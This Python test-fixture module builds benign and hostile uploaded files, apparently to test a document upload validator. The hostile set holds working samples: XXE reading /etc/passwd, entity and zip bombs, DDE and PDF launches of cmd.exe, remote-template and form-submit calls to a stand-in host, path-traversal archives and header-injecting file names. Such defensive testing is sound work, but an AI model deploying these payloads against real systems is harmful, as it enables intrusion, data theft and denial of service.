"""Files as nobody should send them, each made here; and files as people do, that look a little like them."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache
from typing import NamedTuple

from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from tests.pdfs import a_pdf

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><l>&j;</l>"
)
XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


class Sent(NamedTuple):
    """A file as a browser would send it."""

    name: str
    body: bytes
    mime: str = ""


# ------------------------------------------------------------------ builders


def zipped(parts: Mapping[str, bytes | str], *, stored: tuple[str, ...] = ()) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            how = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(name, body, compress_type=how)
    return kept.getvalue()


def relations(*more: str) -> str:
    return f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{"".join(more)}</Relationships>'


def relation(kind: str, target: str, *, outside: bool = True) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="r{abs(hash(target)) % 999}" Type="{REL}/{kind}" Target="{target}"{mode}/>'


def word_parts(**changed: str | bytes) -> dict[str, str | bytes]:
    text = changed.pop("text", "<w:p><w:r><w:t>Bonjour à l’équipe</w:t></w:r></w:p>")
    kind = changed.pop("kind", f"{WORD}.document.main+xml")
    assert isinstance(text, str)
    return {
        "[Content_Types].xml": f'{HEAD}<Types xmlns="{PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>',
        "_rels/.rels": relations(relation("officeDocument", "word/document.xml", outside=False)),
        "word/document.xml": f'{HEAD}<w:document xmlns:w="{W}"><w:body>{text}</w:body></w:document>',
        "word/_rels/document.xml.rels": relations(),
    } | changed  # type: ignore[operator]


def a_docx(parts: Mapping[str, str | bytes] = {}, **changed: str | bytes) -> bytes:
    return zipped(word_parts(**changed) | dict(parts))


def an_odt(
    parts: Mapping[str, str | bytes] = {},
    *,
    kind: str = "text",
    text: str = "<text:p>Bonjour</text:p>",
) -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    return zipped(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{kind}",
            "content.xml": f'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="{office}" '
            'xmlns:text="urn:t" xmlns:draw="urn:d" xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts/>'
            f"<office:body><office:{kind}>{text}</office:{kind}></office:body></office:document-content>",
            "META-INF/manifest.xml": '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:m"/>',
        }
        | dict(parts),
        stored=("mimetype",),
    )


def an_xlsx(*, chart: bool = False, parts: Mapping[str, bytes | str] = {}) -> bytes:
    book = Workbook()
    for row in (["Commune", "Emplois"], ["Nancy", 12], ["Toul", 7]):
        book.active.append(row)
    book.active["A4"].hyperlink = "https://www.insee.fr/fr/statistiques"
    if chart:
        drawn = BarChart()
        drawn.add_data(
            Reference(book.active, min_col=2, min_row=1, max_row=3), titles_from_data=True
        )
        book.active.add_chart(drawn, "E2")
    kept = io.BytesIO()
    book.save(kept)
    if not parts:
        return kept.getvalue()
    with zipfile.ZipFile(kept) as old:
        known = {name: old.read(name) for name in old.namelist()}
    return zipped({**known, **parts})


def a_png(width: int = 3, height: int = 2, *, wrong: bool = False, behind: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        told = zlib.crc32(kind + body) ^ (1 if wrong and kind == b"IDAT" else 0)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", told)

    drawn = (b"\x00" + b"\x88" * 3 * width) * height if width < 1000 else b"\x00" * 90
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(drawn))
        + chunk(b"IEND", b"")
        + behind
    )


def a_jpeg(width: int = 1, height: int = 1, *, behind: bytes = b"") -> bytes:
    """Baseline, one grey block: enough of one for whoever reads its marks."""
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
    tables = b"\xff\xdb\x00\x43\x00" + b"\x10" * 64
    codes = b"\xff\xc4\x00\x14\x00" + b"\x01" + b"\x00" * 15 + b"\x00" + b"\xff\xc4\x00\x14\x10" + b"\x01" + b"\x00" * 15 + b"\x00"  # fmt: skip
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        + tables
        + b"\xff\xc0" + struct.pack(">H", len(frame) + 2) + frame
        + codes
        + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x3f\xff\x00\x20"
        + b"\xff\xd9" + behind
    )  # fmt: skip


def an_acting_pdf(**root: object) -> bytes:
    """A PDF whose catalogue says something more."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    for name, value in root.items():
        writer.root_object[NameObject(f"/{name}")] = named(value)
    kept = io.BytesIO()
    writer.write(kept)
    return kept.getvalue()


def named(value: object) -> object:
    if isinstance(value, dict):
        return DictionaryObject({NameObject(key): named(each) for key, each in value.items()})
    if isinstance(value, list):
        return ArrayObject(named(each) for each in value)
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    return NumberObject(value) if isinstance(value, int) else value


def an_archive_of(*names: str) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        for name, body in word_parts().items():
            archive.writestr(name, body)
        for name in names:
            archive.writestr(name, "x")
    return kept.getvalue()


def with_a_link() -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        for name, body in word_parts().items():
            archive.writestr(name, body)
        link = zipfile.ZipInfo("word/lien.xml")
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return kept.getvalue()


def twice() -> bytes:
    """Two parts of one name: some programs read the first, others the last."""
    body = an_archive_of("word/documens.xml")
    return body.replace(b"word/documens.xml", b"word/document.xml")


def nested_bomb() -> bytes:
    inside = zipped({"0": b"\x00" * (4 * 2**20)})
    for depth in range(4):
        inside = zipped({f"{n}.zip": inside for n in range(10)} | {f"d{depth}": b"x"})
    return a_docx({"word/embeddings/a.zip": inside})


def macro_workbook() -> bytes:
    return an_xlsx(parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Attribut"})


# ------------------------------------------------------------------ the zoo

HTML_AS = b"<html><body><script>alert(document.cookie)</script>"
UNREFERENCED = a_pdf().replace(
    b"startxref", b"99 0 obj\n<< /S /Java#53cript /JS (app.alert(1)) >>\nendobj\nstartxref", 1
)

_HOSTILE: dict[str, Callable[[], Sent]] = {
    "page under the name of a PDF": lambda: Sent("cv.pdf", PAGE),
    "program under the name of a PDF": lambda: Sent("cv.pdf", b"MZ\x90\x00" + b"\x00" * 200),
    "PDF that is a page": lambda: Sent("cv.pdf", a_pdf().replace(b"\n", b"\n%" + PAGE + b"\n", 1)),
    "PDF with a page behind": lambda: Sent("cv.pdf", a_pdf() + PAGE),
    "PDF that is an archive": lambda: Sent("cv.pdf", a_pdf() + zipped({"a.exe": b"MZ"})),
    "archive inside a PDF": lambda: Sent("cv.pdf", archived_pdf()),
    "GIF that is a script": lambda: Sent("logo.png", b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)"),
    "drawing that runs": lambda: Sent("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "page of the web": lambda: Sent("cv.html", HTML_AS),
    "nothing": lambda: Sent("cv.pdf", b""),
    "truncated PDF": lambda: Sent("cv.pdf", a_pdf(3)[:-300]),
    "PDF with a script": lambda: Sent("cv.pdf", a_pdf(script=True)),
    "PDF with a hidden script": lambda: Sent("cv.pdf", UNREFERENCED),
    "PDF that opens an address": lambda: Sent("cv.pdf", an_acting_pdf(OpenAction={"/S": "/URI", "/URI": "https://mal.example/"})),
    "PDF that launches": lambda: Sent("cv.pdf", an_acting_pdf(OpenAction={"/S": "/Launch", "/F": "cmd.exe"})),
    "PDF that sends a form": lambda: Sent("cv.pdf", an_acting_pdf(AcroForm={"/Fields": [{"/FT": "/Btn", "/A": {"/S": "/SubmitForm", "/F": "https://mal.example"}}]})),
    "PDF that carries": lambda: Sent("cv.pdf", a_pdf(carries=True)),
    "locked PDF": lambda: Sent("cv.pdf", a_pdf(locked=True)),
    "PDF with XFA": lambda: Sent("cv.pdf", an_acting_pdf(AcroForm={"/XFA": ["template", "x"], "/Fields": []})),
    "PDF that calls another machine": lambda: Sent("cv.pdf", an_acting_pdf(OpenAction={"/S": "/GoToR", "/F": "\\\\mal.example\\a.pdf", "/D": [0, "/Fit"]})),
    "PDF with a javascript link": lambda: Sent("cv.pdf", an_acting_pdf(Outlines={"/A": {"/S": "/URI", "/URI": "javascript:alert(1)"}})),
    "PDF with a film": lambda: Sent("cv.pdf", an_acting_pdf(Annots=[{"/Subtype": "/RichMedia"}])),
    "Word with macros": lambda: Sent("cv.docx", a_docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "Word of the kind with macros": lambda: Sent("cv.docx", a_docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml")),
    "Word with a remote template": lambda: Sent("cv.docx", a_docx({"word/_rels/settings.xml.rels": relations(relation("attachedTemplate", "https://mal.example/x.dotm"))})),
    "Word with a template on another machine": lambda: Sent("cv.docx", a_docx({"word/_rels/settings.xml.rels": relations(relation("attachedTemplate", "file:///\\\\mal.example\\x.dotm"))})),
    "Word with a remote picture": lambda: Sent("cv.docx", a_docx({"word/_rels/document.xml.rels": relations(relation("image", "http://mal.example/p.png"))})),
    "Word with an outside object": lambda: Sent("cv.docx", a_docx({"word/_rels/document.xml.rels": relations(relation("oleObject", "mhtml:http://mal.example!x"))})),
    "Word that carries an object": lambda: Sent("cv.docx", a_docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1MZ"})),
    "Word with outside entities": lambda: Sent("cv.docx", a_docx({"word/document.xml": XXE})),
    "Word that calls a program": lambda: Sent("cv.docx", a_docx(text='<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\cmd.exe "/c calc"</w:instrText></w:r></w:p>')),
    "Word without its table of types": lambda: Sent("cv.docx", zipped({"word/document.xml": "<a/>"})),
    "Excel with outside entities": lambda: Sent("tableau.xlsx", an_xlsx(parts={"xl/workbook.xml": XXE})),
    "Excel that laughs": lambda: Sent("tableau.xlsx", an_xlsx(parts={"xl/sharedStrings.xml": LAUGHS})),
    "Excel that calls a program": lambda: Sent("tableau.xlsx", an_xlsx(parts={"xl/externalLinks/externalLink1.xml": '<externalLink xmlns="a"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'})),
    "Excel whose formula calls a program": lambda: Sent("tableau.xlsx", an_xlsx(parts={"xl/worksheets/sheet2.xml": "<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>"})),
    "Excel with macros": lambda: Sent("tableau.xlsx", macro_workbook()),
    "Writer with outside entities": lambda: Sent("cv.odt", an_odt({"content.xml": XXE})),
    "Writer with a macro": lambda: Sent("cv.odt", an_odt({"Basic/Standard/Module1.xml": "<script/>"})),
    "Writer with a remote picture": lambda: Sent("cv.odt", an_odt(text='<draw:image xlink:href="https://mal.example/p.png" xlink:actuate="onLoad"/>')),
    "archive that inflates": lambda: Sent("cv.docx", a_docx({"word/media/a.bin": b"\x00" * (50 * 2**20)})),
    "archive of archives": lambda: Sent("cv.docx", nested_bomb()),
    "archive that leaves its folder": lambda: Sent("cv.docx", an_archive_of("../../etc/cron.d/a")),
    "archive from the root": lambda: Sent("cv.docx", an_archive_of("/etc/passwd")),
    "archive with a link": lambda: Sent("cv.docx", with_a_link()),
    "archive with two of one name": lambda: Sent("cv.docx", twice()),
    "archive of too many": lambda: Sent("cv.docx", an_archive_of(*(f"word/{n}.xml" for n in range(2_100)))),
    "archive behind a program": lambda: Sent("cv.docx", b"MZ" + a_docx()),
    "archive before a page": lambda: Sent("cv.docx", a_docx() + PAGE),
    "Word under the name of Excel": lambda: Sent("tableau.xlsx", a_docx()),
    "old Word": lambda: Sent("cv.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
    "picture of two billion dots": lambda: Sent("photo.png", a_png(50_000, 50_000)),
    "photograph of four billion dots": lambda: Sent("photo.jpg", a_jpeg(65_000, 65_000)),
    "picture with a page behind": lambda: Sent("photo.png", a_png(behind=PAGE)),
    "photograph with a page behind": lambda: Sent("photo.jpg", a_jpeg(behind=PAGE)),
    "photograph with an archive behind": lambda: Sent("photo.jpg", a_jpeg(behind=zipped({"a": b"b"}))),
    "picture that lies about itself": lambda: Sent("photo.png", a_png(wrong=True)),
    "truncated photograph": lambda: Sent("photo.jpg", a_jpeg()[:-6]),
    "two endings, the last runs": lambda: Sent("cv.pdf.exe", a_pdf()),
    "two endings, the first runs": lambda: Sent("cv.exe.pdf", a_pdf()),
    "name read from the right": lambda: Sent("cv\u202efdp.exe.pdf", a_pdf()),
    "name with a nul": lambda: Sent("cv.php\x00.pdf", a_pdf()),
    "name of two lines": lambda: Sent("cv\r\nContent-Type: text/html\r\n.pdf", a_pdf()),
    "name without end": lambda: Sent("c" * 4_000 + ".pdf", a_pdf()),
    "name with a path": lambda: Sent("../../../etc/cv.pdf", a_pdf()),
    "name that ends in dots": lambda: Sent("cv.pdf...", a_pdf()),
    "type that lies": lambda: Sent("cv.pdf", a_pdf(), "text/html"),
    "too large": lambda: Sent("cv.pdf", a_pdf() + b"\n" * (5 * 2**20)),
}  # fmt: skip


def archived_pdf() -> bytes:
    """A PDF whose last stream is an archive: its table stands within what a ZIP reader looks at."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    hidden = StreamObject()
    hidden.set_data(zipped({"a.exe": b"MZ"}))
    writer.root_object[NameObject("/PieceInfo")] = writer._add_object(hidden)
    kept = io.BytesIO()
    writer.write(kept)
    return kept.getvalue()


def a_rich_pdf(version: str = "1.7") -> bytes:
    """With what honest ones hold: links, an outline that speaks of programs, a form, a first page."""
    writer = PdfWriter()
    for _ in range(2):
        writer.add_blank_page(width=200, height=200)
    writer.pdf_header = f"%PDF-{version}"
    writer.add_metadata({"/Title": "CV de Zoé Müller-Ångström"})
    writer.add_annotation(0, Link(rect=(1, 1, 9, 9), url="https://www.example.fr/portfolio"))
    writer.add_annotation(0, Link(rect=(1, 1, 9, 9), url="mailto:zoe@example.fr"))
    writer.add_outline_item(title="HTML/CSS/JavaScript /Launch", page_number=1)
    writer.root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")]
    )
    field = named({"/FT": "/Tx", "/T": "nom", "/V": "Zoé", "/F": 4})
    writer.root_object[NameObject("/AcroForm")] = named({"/Fields": [field]})
    kept = io.BytesIO()
    writer.write(kept)
    return kept.getvalue()


def a_printed_pdf() -> bytes:
    """As our own documents leave; slow to draw, so that only the drill asks for it."""
    from weasyprint import HTML

    said = "<title>CV</title><h1>Zoé</h1><p><a href='https://example.fr'>Ici</a> et là"
    drawn: bytes = HTML(string=f"<html lang=fr>{said * 3}").write_pdf()
    return drawn


def linked_docx() -> bytes:
    """A hyperlink, a template of its own machine, a chart with its workbook, a page number."""
    return a_docx(
        {
            "word/_rels/document.xml.rels": relations(
                relation("hyperlink", "https://www.example.fr/?a=1&amp;b=2"),
                relation("hyperlink", "mailto:zoe@example.fr"),
                relation("image", "media/image1.png", outside=False),
            ),
            "word/_rels/settings.xml.rels": relations(
                relation("attachedTemplate", "file:///C:\\Users\\Zoé\\AppData\\Normal.dotm")
            ),
            "word/media/image1.png": a_png(),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": an_xlsx(),
            "customXml/item1.xml": '<?xml version="1.0" encoding="UTF-16"?><a>é</a>'.encode(
                "utf-16"
            ),
        },
        text="<w:p><w:r><w:instrText>PAGE \\* MERGEFORMAT</w:instrText><w:t>DDE et JavaScript</w:t></w:r></w:p>",
    )


_HONEST: dict[str, Callable[[], Sent]] = {
    "PDF 1.4": lambda: Sent("Curriculum vitæ – Zoé Müller.pdf", a_rich_pdf("1.4")),
    "PDF 1.7": lambda: Sent("CV.v2.final.pdf", a_rich_pdf("1.7")),
    "PDF 2.0": lambda: Sent("CV_l’été.PDF", a_rich_pdf("2.0")),
    "PDF that ends in blanks": lambda: Sent("cv.pdf", a_pdf() + b"\r\n\x00"),
    "name of an old browser": lambda: Sent("C:\\Users\\Zoé\\CV.pdf", a_pdf()),
    "long name": lambda: Sent("Attestation de formation " * 8 + ".pdf", a_pdf()),
    "type not known": lambda: Sent("cv.pdf", a_pdf(), "application/octet-stream"),
    "Word": lambda: Sent("Lettre à l’élu.docx", linked_docx()),
    "plain Word": lambda: Sent("lettre.docx", a_docx()),
    "Excel": lambda: Sent("tableau.xlsx", an_xlsx(chart=True)),
    "Writer": lambda: Sent("note.odt", an_odt({"Configurations2/accelerator/current.xml": ""}, text='<text:a xlink:href="https://example.fr">lien</text:a><draw:image xlink:href="Pictures/1.png"/>')),
    "Calc": lambda: Sent("tableau.ods", an_odt(kind="spreadsheet")),
    "Impress": lambda: Sent("diapos.odp", an_odt(kind="presentation")),
    "picture": lambda: Sent("photo.png", a_png(40, 30)),
    "photograph": lambda: Sent("photo.jpeg", a_jpeg(8, 8)),
    "photograph of a telephone": lambda: Sent("IMG_2026.JPG", a_jpeg(8, 8, behind=a_jpeg(2, 2))),
}  # fmt: skip

KINDS, HONEST_KINDS = tuple(_HOSTILE), tuple(_HONEST)


@cache
def hostile(kind: str) -> Sent:
    return _HOSTILE[kind]()


@cache
def honest(kind: str) -> Sent:
    return _HONEST[kind]()
